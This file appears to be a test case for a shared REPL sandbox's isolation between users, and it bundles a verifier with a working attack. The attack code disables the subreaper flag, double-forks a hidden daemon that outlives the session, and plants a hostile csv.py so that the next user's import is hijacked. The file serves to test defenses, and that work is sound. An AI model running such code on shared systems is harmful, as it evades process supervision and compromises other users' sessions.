# The attack that read the next user's secrets: clears the REPL server's
# subreaper flag, double-forks a daemon with an empty environment that waits
# for the next user and plants a module in the workspace. After the hand-over
# no process of it is left, the workspace is empty, and the next user's
# `import csv` is the standard library's.
# status: succeeded
# handover: true
# modes: sandbox
# e2e: true
# check: import os
# check: me = os.readlink("/proc/self")
# check: def ppid(p):
# check:     s = open(f"/proc/{p}/stat").read()
# check:     return s[s.rindex(")") + 2:].split()[1]
# check: agent = ppid(me)
# check: left = []
# check: for p in os.listdir("/proc"):
# check:     if p.isdigit() and p not in (me, agent):
# check:         try:
# check:             cmd = open(f"/proc/{p}/cmdline", "rb").read()
# check:         except OSError:
# check:             continue
# check:         if b"warmpool-hostile" in cmd:
# check:             left.append(p)
# check: import csv, time
# check: time.sleep(1.5)
# check: planted = [f for f in os.listdir(".") if f.endswith(".py")]
# check: "clean" if not left and not planted and "warmpool-hostile" not in open(csv.__file__).read() else f"left {left} planted {planted} csv {csv.__file__}"
import ctypes, os, subprocess, sys
ctypes.CDLL(None).prctl(36, 0, 0, 0, 0)  # PR_SET_CHILD_SUBREAPER off
daemon = """
import os, time, sys
if os.fork():
    os._exit(0)
os.setsid()
if os.fork():
    os._exit(0)
time.sleep(1)
ws = sys.argv[1]
for _ in range(200):
    open(os.path.join(ws, "csv.py"), "w").write("# warmpool-hostile\\nSTOLEN = True\\n")
    time.sleep(0.05)
"""
subprocess.Popen([sys.executable, "-c", daemon, os.getcwd(), "warmpool-hostile"], env={}, start_new_session=True,
                 stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
